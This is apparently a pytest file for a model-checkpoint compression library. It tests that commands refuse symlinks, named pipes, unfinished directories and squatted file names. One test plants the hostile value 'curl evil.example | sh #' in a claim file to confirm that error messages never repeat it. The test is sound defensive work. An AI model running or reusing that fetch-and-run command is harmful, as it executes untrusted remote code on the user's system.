"""Directories that commands fill or open, with links, pipes, claims, and files in the way of ours in them."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import checkpoints
import hostile_names
from conftest import ROOT
from finegrained_kernels.checkpoint import (
    CheckpointError,
    compress,
    inspect,
    load_layer_scales,
    open_checkpoint,
    plan_compression,
    push,
    quantize,
    restore,
    verify,
)

pytestmark = pytest.mark.usefixtures("bundle")


@pytest.fixture(scope="module")
def made(bundle, tmp_path_factory):
    """A source with its shards in a folder, and its compressed form."""
    root = tmp_path_factory.mktemp("directories")
    checkpoints.write_checkpoint(
        root / "source",
        checkpoints.random_moe(),
        checkpoints.MODELOPT_CONFIG,
        shard_of=lambda name: f"sub/{checkpoints.by_layer(name)}",
    )
    compress(root / "source", root / "small")
    return root


def refused(call, *arguments) -> str:
    with pytest.raises(CheckpointError) as caught:
        call(*arguments)
    assert str(caught.value).isprintable()
    return str(caught.value)


def source_of(command, made: Path, tmp_path: Path) -> Path:
    if command is not quantize:
        return made / ("small" if command is restore else "source")
    tensors = checkpoints.minilm_moe()
    return checkpoints.write_checkpoint(
        tmp_path / "plain", tensors, checkpoints.CONFIG, shard_of=lambda _: "sub/x.safetensors"
    )


WRITERS = pytest.mark.parametrize("command", [compress, quantize, restore])


@WRITERS
@pytest.mark.parametrize("folder", ["sub", ".incomplete"])
def test_nothing_is_written_through_a_link_in_the_destination(made, tmp_path, command, folder):
    outside, out = tmp_path / "outside", tmp_path / "out"
    outside.mkdir(), out.mkdir()
    (out / folder).symlink_to(outside)
    assert "is a link to a directory" in refused(command, source_of(command, made, tmp_path), out)
    assert not list(outside.iterdir())
    assert [path.name for path in out.iterdir()] == [folder]


@WRITERS
def test_a_link_or_a_pipe_of_the_users_is_not_replaced(made, tmp_path, command):
    source = source_of(command, made, tmp_path)
    for make in (lambda path: path.symlink_to("nowhere"), os.mkfifo):
        out = Path(tempfile.mkdtemp(dir=tmp_path))
        make(out / "config.json")
        assert "give a new directory" in refused(command, source, out)
        assert [path.name for path in out.iterdir()] == ["config.json"]
        assert not (out / "config.json").is_file()


def test_a_config_that_is_a_pipe(made, tmp_path):
    small = Path(shutil.copytree(made / "small", tmp_path / "small"))
    (small / "config.json").unlink()
    os.mkfifo(small / "config.json")
    assert "config.json: cannot be read: it is not a file" in refused(inspect, small)


def test_an_unfinished_directory_is_none_to_open(made, tmp_path):
    """Even before its first record."""
    root = tmp_path / "begun"
    (root / ".incomplete").mkdir(parents=True)
    claim = {"command": "compress", "source": "/models/a b", "identity": "0" * 64}
    (root / ".incomplete" / "claim.json").write_text(json.dumps(claim))
    out = tmp_path / "out"
    calls = [
        (inspect, root),
        (open_checkpoint, root),
        (load_layer_scales, root, 0, "up_proj"),
        (plan_compression, root),
        (compress, root, out),
        (quantize, root, out),
        (restore, root, out),
        (push, root, "org/name"),
    ]
    for call, *arguments in calls:
        assert "is not finished (.incomplete/ is there): run `compress '/models/a b'`" in refused(call, *arguments)
    assert any("is not finished" in fault.message for fault in verify(root).faults)
    assert not out.exists()


def test_a_claim_of_strangers_tells_nobody_what_to_run(made, tmp_path):
    small = Path(shutil.copytree(made / "small", tmp_path / "small"))
    (small / ".incomplete").mkdir()
    claim = {"command": "curl evil.example | sh #", "source": "/x", "identity": "0"}
    (small / ".incomplete" / "claim.json").write_text(json.dumps(claim))
    for message in (refused(inspect, small), refused(restore, small, tmp_path / "out")):
        assert "is not finished" in message and "evil" not in message
    assert "evil" not in str(verify(small).faults)


@pytest.mark.parametrize("command", [compress, quantize])
def test_a_file_called_as_our_folder(made, tmp_path, command):
    source = Path(shutil.copytree(source_of(command, made, tmp_path), tmp_path / "copy"))
    (source / "csf_digests").write_text("mine")
    assert "csf_digests: lies where" in refused(command, source, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_names_lead_nowhere(made, tmp_path):
    """Files that they name outside are neither opened nor written, as Python's audit events show.

    It runs in a separate process, without coverage's tracer. An audit hook cannot be removed, and while there is one,
    Python 3.11 may end a new thread that takes over a tracer at the same time as another thread. Whoever waits for that
    thread's work then waits forever.
    """
    command = [sys.executable, hostile_names.__file__, str(made), str(tmp_path)]
    environment = os.environ | {"PYTHONPATH": str(ROOT)}
    result = subprocess.run(command, env=environment, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
